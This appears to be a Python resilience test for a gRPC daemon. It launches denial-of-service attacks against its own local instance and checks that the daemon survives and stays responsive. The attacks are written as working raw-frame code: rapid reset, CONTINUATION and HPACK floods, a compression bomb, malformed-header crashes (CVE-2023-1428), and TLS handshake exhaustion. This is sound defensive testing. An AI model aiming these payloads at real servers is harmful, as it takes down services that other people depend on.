"""Peers that speak HTTP/2 as no library does: no frame of theirs grows the daemon, ends it, or keeps another user waiting.

Each attack runs for some seconds on a unix socket as another user, and over TLS with a reader's certificate, while somebody else
asks for the status. Judged: the daemon lives, its memory stays below 200 MiB, and 99 of 100 of the other's calls take 20 ms at most;
on a machine that is busy with something else, twice what they take without an attack.
"""

import contextlib
import os
import pathlib
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
import zlib

os.environ.setdefault("GRPC_ENABLE_FORK_SUPPORT", "0")  # Attacks are forked off, and use none of it.

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))
from node import ROOT, Failed, Node, check, main, memory_mib, stub, proto, wait_until  # pylint: disable=wrong-import-position

SECONDS = float(os.environ.get("WAVETUNE_ATTACK_SECONDS", "6"))
MOST_MIB = 200
MOST_P99_MS = float(os.environ.get("WAVETUNE_ATTACK_P99_MS", "20"))
NOBODY = 65534

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
STATUS = "/wavetune.v1.StatusService/GetStatus"
WATCH = "/wavetune.v1.TableService/WatchTables"
NOTHING = bytes(5)  # An empty message.


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    value = value.encode() if isinstance(value, str) else value
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, length = len(value) - 127, b""
    while rest >= 128:
        length += bytes([0x80 | rest & 127])
        rest >>= 7
    return b"\x7f" + length + bytes([rest]) + value


def headers(path, *more):
    """A header block of literals that no table keeps."""
    block = b""
    for name, value in [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
                        ("content-type", "application/grpc"), ("te", "trailers"), *more]:
        block += b"\0" + text(name) + text(value)
    return block


def call(stream, path=STATUS, body=NOTHING, flags=END_STREAM):
    return frame(HEADERS, END_HEADERS, stream, headers(path)) + frame(DATA, flags, stream, body)


class Place:
    """Where an attack connects to."""

    def __init__(self, node, kind, certificate="reader"):
        self.node, self.kind, self.certificate = node, kind, certificate

    def connect(self):
        if self.kind == "unix":
            peer = socket.socket(socket.AF_UNIX)
            peer.settimeout(5)
            peer.connect(str(self.node.folder / "reader.sock"))
            return peer
        tls = self.node.folder / "tls"
        context = ssl.create_default_context(cafile=tls / "ca.crt")
        context.load_cert_chain(tls / f"{self.certificate}.crt", tls / f"{self.certificate}.key")
        context.set_alpn_protocols(["h2"])
        return context.wrap_socket(socket.create_connection(("127.0.0.1", self.node.port), 5), server_hostname="localhost")

    def begin(self, read=False, settings=b"", ack=False):
        """A connection that has greeted; `read`: somebody takes what it is told."""
        peer = self.connect()
        peer.sendall(PREFACE + frame(SETTINGS, 0, 0, settings) + (frame(SETTINGS, ACK, 0) if ack else b""))
        if read:
            threading.Thread(target=drain, args=(peer,), daemon=True).start()
        return peer


def drain(peer):
    try:
        while peer.recv(65536):
            pass
    except OSError:
        pass


def again_and_again(place, attack, **how):
    """Connects anew wherever it is cut; what is written to a daemon that does not read ends with the time."""
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        try:
            with place.begin(**how) as peer:
                peer.settimeout(1)
                attack(peer, end)
        except OSError:
            time.sleep(0.005)


def streams_without_an_acknowledgement(place, read):
    def attack(peer, end):
        for stream in range(1, 80001, 2):
            peer.sendall(call(stream, WATCH))
            if time.monotonic() > end:
                return
        time.sleep(max(0.0, end - time.monotonic()))
    again_and_again(place, attack, read=read)


def references_to_a_large_header(place, read):
    def attack(peer, end):
        peer.sendall(frame(HEADERS, END_HEADERS, 1, headers("/x") + b"\x40" + text("x") + text("y" * 3900)))
        for stream in range(3, 1 << 30, 2):
            peer.sendall(frame(HEADERS, END_HEADERS, stream, headers("/x") + b"\xbe" * 8000))
            if time.monotonic() > end:
                return
    again_and_again(place, attack, read=read)


def calls_that_are_reset(place, read):
    def attack(peer, end):
        for stream in range(1, 1 << 30, 200):
            peer.sendall(b"".join(frame(HEADERS, END_HEADERS, number, headers(STATUS))
                                  + frame(RST_STREAM, 0, number, struct.pack(">I", 8))
                                  for number in range(stream, stream + 200, 2)))
            if time.monotonic() > end:
                return
    again_and_again(place, attack, read=read)


def calls_on_connections_that_end(place, _read):
    def attack(peer, _end):
        peer.sendall(b"".join(frame(HEADERS, END_HEADERS, number, headers(STATUS)) for number in range(1, 257, 2)))
    again_and_again(place, attack)


def headers_without_end(place, read):
    def attack(peer, end):
        peer.sendall(frame(HEADERS, 0, 1, headers(STATUS)))
        while time.monotonic() < end:
            peer.sendall(frame(CONTINUATION, 0, 1, b"\0" + text("ab") + text("c" * 16)) * 200)
    again_and_again(place, attack, read=read)


def frames_that_say_nothing(place, read):
    many = (frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 100)) + frame(PRIORITY, 0, 3, bytes(5))
            + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) + frame(77, 0, 0, b"unknown")) * 200

    def attack(peer, end):
        while time.monotonic() < end:
            peer.sendall(many)
    again_and_again(place, attack, read=read)


def watches_without_a_window(place, read):
    peers = []
    for _ in range(20):
        try:
            peers.append(place.begin(read=read, settings=struct.pack(">HI", 4, 0)))
            peers[-1].sendall(b"".join(call(1 + 2 * i, WATCH) for i in range(128)))
        except OSError:
            pass
    time.sleep(SECONDS)


def requests_that_never_come(place, read):
    peers = []
    for _ in range(200):
        try:
            peers.append(place.begin(read=read))
            peers[-1].sendall(b"".join(call(1 + 2 * i, STATUS, b"\0\0\0", 0) for i in range(128)))
        except OSError:
            pass
    time.sleep(SECONDS)


def messages_that_are_announced(place, read):
    peers = []
    for _ in range(60):
        try:
            peers.append(place.begin(read=read))
            peers[-1].sendall(b"".join(call(1 + 2 * i, "/wavetune.v1.DecisionService/Resolve", b"\0\0\x3f\xff\xff" + b"z" * 400, 0)
                                       for i in range(128)))
        except OSError:
            pass
    time.sleep(SECONDS)


def messages_byte_by_byte(place, read):
    def attack(peer, end):
        peer.sendall(frame(HEADERS, END_HEADERS, 1, headers("/wavetune.v1.DecisionService/Resolve"))
                     + frame(DATA, 0, 1, b"\0\0\x3f\xff\xff"))
        while time.monotonic() < end:
            peer.sendall(frame(DATA, 0, 1, b"z") * 1000)
    again_and_again(place, attack, read=read)


def messages_that_nobody_reads(place, read):
    for _ in range(32):
        try:
            peer = place.begin(read=read)
            for stream in range(1, 257, 2):
                peer.sendall(frame(HEADERS, END_HEADERS, stream, headers(WATCH)) + frame(DATA, 0, stream, NOTHING) * 13000)
        except OSError:
            pass
    time.sleep(SECONDS)


def compressed_messages(place, read):
    bomb = zlib.compress(bytes(200 << 20), 9)

    def attack(peer, end):
        for stream in range(1, 1 << 20, 2):
            peer.sendall(frame(HEADERS, END_HEADERS, stream, headers(STATUS, ("grpc-encoding", "deflate"))))
            body = b"\1" + struct.pack(">I", len(bomb)) + bomb
            for at in range(0, len(body), 16384):
                peer.sendall(frame(DATA, 0, stream, body[at:at + 16384]))
            peer.sendall(frame(DATA, END_STREAM, stream))
            if time.monotonic() > end:
                return
    again_and_again(place, attack, read=read)


def headers_that_abort_it(place, _read):
    """CVE-2023-1428 and its like; over TLS from a certificate that no rule names, too."""
    odd = [[("grpclb_client_stats", "x")], [("te", "x")], [(":scheme", "x")], [(":path", "/x")], [("host", "y")],
           [("grpc-tags-bin", "="), ("grpc-trace-bin", "a" * 3001), ("x-bin", "!!!!")], [("grpc-timeout", "9" * 20 + "H")],
           [("grpc-encoding", "zip"), ("grpc-accept-encoding", "," * 3000)], [("grpc-previous-rpc-attempts", "-5")],
           [(":status", "200"), ("grpc-status", "0"), ("grpc-message", "%00%0a")], [("x", "a\0b"), ("y\r\nz", "q")],
           [("x", "y" * 9000)], [("content-type", "text/html")], [("lb-token", "x"), ("lb-cost-bin", "x")],
           [("grpc-server-stats-bin", "*"), ("grpc-retry-pushback-ms", "x"), ("endpoint-load-metrics-bin", "*")]]
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        for more in odd:
            for certificate in ("reader", "nobody"):
                try:
                    with Place(place.node, place.kind, certificate).begin(read=True) as peer:
                        peer.sendall(frame(HEADERS, END_HEADERS, 1, headers(STATUS, *more)) + frame(DATA, END_STREAM, 1, NOTHING))
                        peer.sendall(call(3, "/any"))
                except OSError:
                    pass
            time.sleep(0.01)


def handshakes(place, _read):
    """Half ones, and whole ones without a certificate."""
    context = ssl.create_default_context(cafile=place.node.folder / "tls/ca.crt")
    end = time.monotonic() + SECONDS
    held = []
    while time.monotonic() < end:
        try:
            peer = socket.create_connection(("127.0.0.1", place.node.port), 1)
            if len(held) < 300:
                peer.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(32))
                held.append(peer)
                continue
            with context.wrap_socket(peer, server_hostname="localhost"):
                pass
        except OSError:
            pass


def hellos_that_announce_much(place, _read):
    """From four addresses, each with all the connections it may have."""
    held = []
    record = b"\x16\x03\x01\x40\x00"
    for connection in range(1024):
        with contextlib.suppress(OSError):
            peer = socket.create_connection(("127.0.0.1", place.node.port), 1, (f"127.0.0.{2 + connection % 4}", 0))
            held.append(peer)
            peer.sendall(record + b"\x01\x02\x01\x00" + bytes(16380) + (record + bytes(16384)) * 7)
    time.sleep(SECONDS)


ATTACKS = [streams_without_an_acknowledgement, references_to_a_large_header, calls_that_are_reset, calls_on_connections_that_end,
           headers_without_end, frames_that_say_nothing, watches_without_a_window, requests_that_never_come,
           messages_that_are_announced, messages_byte_by_byte, messages_that_nobody_reads, compressed_messages, headers_that_abort_it]


def certificates(folder):
    """By the commands of docs/security.md."""
    folder.mkdir()
    document = (ROOT / "docs/security.md").read_text()
    commands = document.split("```sh\n")[1].split("```")[0] + "issue nobody URI:spiffe://example.org/nobody\n"
    subprocess.run(["bash", "-c", "set -eu\n" + commands], cwd=folder, check=True, capture_output=True)
    policy = folder / "policy.json"
    policy.write_bytes((ROOT / "deploy/authz/policy.json").read_bytes())
    policy.chmod(0o644)


class Bystander:
    """Another user, who asks for the status all the time."""

    def __init__(self, node):
        self.seconds, self.failures, self.peak = [], [], 0.0
        self._node = node
        self._ends = threading.Event()
        self._thread = threading.Thread(target=self._run)

    def __enter__(self):
        self._thread.start()
        wait_until(lambda: len(self.seconds) > 20, 60, "calls before the attack")
        self.seconds.clear()
        return self

    def __exit__(self, *_):
        self._ends.set()
        self._thread.join()

    def _run(self):
        request = proto("status_service_pb2").GetStatusRequest()
        with stub(self._node.socket(), "StatusService") as status:
            while not self._ends.is_set():
                began = time.monotonic()
                try:
                    status.GetStatus(request, timeout=5)
                    self.seconds.append(time.monotonic() - began)
                except Exception as error:  # pylint: disable=broad-except
                    self.failures.append(str(error)[:200])
                with contextlib.suppress(Failed, OSError):  # Where it has ended, as the judge says.
                    self.peak = max(self.peak, memory_mib(self._node.daemon.pid))
                time.sleep(0.01)

    def p99_ms(self):
        return sorted(self.seconds)[int(0.99 * (len(self.seconds) - 1))] * 1000


def in_another_process(place, attack, read):
    """So that the bystander has an interpreter of its own; on a unix socket as a user that nobody is."""
    child = os.fork()
    if child == 0:
        try:
            os.setpriority(os.PRIO_PROCESS, 0, 5)
            if place.kind == "unix" and os.geteuid() == 0:
                os.setgid(NOBODY)
                os.setuid(NOBODY)
            attack(place, read)
        finally:
            os._exit(0)
    return child


def nothing(_place, _read):
    time.sleep(SECONDS)


def judge(node, kind, attack, read):
    """Returns how long 99 of 100 calls took at most, in milliseconds."""
    name = f"{attack.__name__.replace('_', ' ')}, {kind}, {'read' if read else 'not read'}"
    with Bystander(node) as bystander:
        os.waitpid(in_another_process(Place(node, kind), attack, read), 0)
        alive = node.daemon.poll() is None
        p99, peak = bystander.p99_ms(), bystander.peak
    check(alive, f"{name}: the daemon lives")
    print(f"   {name}: peak {peak:.0f} MiB, p99 {p99:.1f} ms of {len(bystander.seconds)} calls", flush=True)
    check(not bystander.failures, f"{name}: no call of another fails {bystander.failures[:1]}")
    check(peak <= MOST_MIB, f"{name}: {peak:.0f} MiB at most")
    check(attack is nothing or p99 <= max(MOST_P99_MS, 2 * node.p99_alone), f"{name}: another's calls take {p99:.1f} ms")
    return p99


def answered(place):
    """Whether a peer of the attackers' own address is answered as soon as the debt of 4,096 calls that end at once is paid."""
    began = time.monotonic()
    with place.begin() as peer:
        peer.settimeout(15)
        peer.sendall(call(1))
        said = b""
        while struct.pack(">I", 1) not in [said[at + 5:at + 9] for at in frames_of(said)]:
            more = peer.recv(65536)
            if not more:
                return False
            said += more
    return time.monotonic() - began < 10


def frames_of(said):
    at = 0
    while at + 9 <= len(said):
        yield at
        at += 9 + int.from_bytes(said[at:at + 3], "big")


def attacks_over(node, kind):
    for attack in ATTACKS:
        for read in (False, True):
            judge(node, kind, attack, read)
            if kind == "tls":
                check(answered(Place(node, kind)), "another peer of that address is answered")


def free_port():
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def scenario():
    proto("status_service_pb2_grpc")
    for kind in os.environ.get("WAVETUNE_ATTACK_KINDS", "unix tls").split():
        with Node() as node:
            tls = node.folder / "tls"
            certificates(tls)
            node.port = free_port()
            node.add_kernel("repeats")
            node.start_daemon("--listen-tcp", f"127.0.0.1:{node.port}", "--tls-cert", tls / "daemon.crt", "--tls-key",
                              tls / "daemon.key", "--tls-ca", tls / "ca.crt", "--authz-policy", tls / "policy.json")
            node.p99_alone = judge(node, kind, nothing, False)
            attacks_over(node, kind)
            if kind == "tls":
                judge(node, kind, handshakes, False)
                judge(node, kind, hellos_that_announce_much, False)
            check(node.cli("status").returncode == 0, "it answers after all of that")


main(scenario)
